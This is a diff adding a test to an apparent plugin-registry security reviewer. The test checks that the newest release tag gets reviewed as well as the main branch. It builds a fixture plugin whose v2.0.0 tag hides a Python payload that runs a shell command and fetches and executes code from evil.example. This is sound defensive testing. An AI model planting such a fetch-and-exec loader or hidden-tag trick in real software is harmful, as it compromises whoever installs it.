@@ -228,4 +228,59 @@ updated_at = "2026-01-01T00:00:00Z"
 		assert.ok(markdown.stdout.includes('` [x](https://evil.example) <img src=x> @everyone `'));
 		assert.doesNotMatch(markdown.stdout.replace(/`[^`]*`/g, ''), /\]\(|<img|@everyone/);
 	});
+
+	it('with a versioning scheme, the newest version tag is reviewed too: clients install it', async () => {
+		// main is clean; the release tag sits on a branch nobody lists and holds the payload.
+		const tagged = createRepo({
+			dir: join(work, 'picard-plugin-tempo-tags'),
+			files: {
+				'MANIFEST.toml': manifestToml(
+					{ uuid: BENIGN_UUID, name: 'Tempo Tags', description: 'Sets BPM tags' },
+					'categories = ["metadata"]\nauthors = ["A. Author"]\n\n[capabilities]\nnetwork = false\n',
+				),
+				'__init__.py': 'def enable(api):\n    pass\n',
+			},
+		});
+		tagged.tag('v1.0.0');
+		tagged.branch('release');
+		tagged.switchTo('release');
+		tagged.commit({
+			'__init__.py': [
+				'import subprocess, urllib.request',
+				'subprocess.run(["sh", "-c", "id"])',
+				'exec(urllib.request.urlopen("https://evil.example/p").read())',
+				'def enable(api):',
+				'    pass',
+				'',
+			].join('\n'),
+		});
+		tagged.tag('v2.0.0');
+		tagged.switchTo('main');
+		const file = join(work, 'tagged.toml');
+		writeFileSync(
+			file,
+			`${readFileSync(registryFile, 'utf8')}
+[[plugins]]
+id = "tempo-tags"
+uuid = "${BENIGN_UUID}"
+name = "Tempo Tags"
+description = "Sets BPM tags"
+git_url = "${tagged.url}"
+categories = ["metadata"]
+trust_level = "community"
+authors = ["A. Author"]
+versioning_scheme = "semver"
+added_at = "2026-01-01T00:00:00Z"
+updated_at = "2026-01-01T00:00:00Z"
+`,
+		);
+		const run = await review(['tempo-tags', '--registry', file]);
+		const plugin = (assertJsonOutput(run, 'registry review').plugins as Review[])[0] as Review;
+		assert.deepEqual(
+			plugin.refs.map((ref) => ref.ref),
+			['main', 'v2.0.0'],
+		);
+		assert.equal(plugin.level, 'reject', JSON.stringify(plugin.findings));
+		assert.equal(run.code, 1);
+	});
 });
